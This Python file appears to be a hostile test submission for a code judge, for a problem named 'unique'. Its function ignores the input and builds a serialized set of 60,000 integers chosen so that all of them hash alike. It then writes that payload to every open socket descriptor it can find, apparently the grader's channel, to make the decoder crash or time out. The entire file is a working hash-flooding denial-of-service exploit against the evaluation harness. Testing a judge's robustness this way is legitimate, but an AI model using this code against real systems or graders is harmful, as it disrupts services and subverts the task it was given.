"""Colliding set.

problem: unique
tries: a set of 60,000 integers that all hash alike, which costs the decoder their square
sound: unrepresentable|fail|crash|memory|timeout
"""
import os, stat, struct, time

def whole(value):
    digits = []
    while value:
        digits.append(value & 0x7FFF)
        value >>= 15
    return b"l" + struct.pack("<i", len(digits)) + struct.pack(f"<{len(digits)}H", *digits)

def unique(xs):
    prime = 2 ** 61 - 1
    count = 60_000
    value = b"<" + struct.pack("<I", count) + b"".join(whole(k * prime) for k in range(1, count + 1))
    record = struct.pack("<cI", b"V", len(value)) + value
    data = struct.pack("<cIII", b"B", 0, 1, len(record)) + record
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                sent = 0
                while sent < len(data):
                    sent += os.write(number, data[sent:])
        except OSError:
            pass
    time.sleep(5)
